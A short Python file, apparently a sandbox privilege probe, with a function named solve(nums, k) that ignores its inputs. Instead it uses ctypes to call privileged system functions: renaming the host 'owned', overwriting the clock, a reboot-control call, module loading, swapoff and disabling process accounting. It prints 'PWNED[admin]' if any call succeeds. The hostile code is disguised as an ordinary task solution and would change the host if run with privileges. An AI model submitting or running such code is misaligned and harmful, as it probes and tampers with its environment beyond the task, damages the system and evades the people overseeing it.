"""Tries: what only administrators may: set the clock, the host name, load a module, swap, reboot.
Seen: any of them returns 0.
"""

import ctypes


def solve(nums, k):
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {
        "sethostname": lambda: libc.sethostname(b"owned", 5),
        "settimeofday": lambda: libc.settimeofday(ctypes.create_string_buffer(16), None),
        "reboot": lambda: libc.reboot(0x89ABCDEF),
        "init_module": lambda: libc.syscall(175, ctypes.create_string_buffer(8), 8, b""),
        "swapoff": lambda: libc.swapoff(b"/none"),
        "acct": lambda: libc.acct(None),
    }
    done = [name for name, call in calls.items() if call() == 0]
    if done:
        print("PWNED[admin]", done)
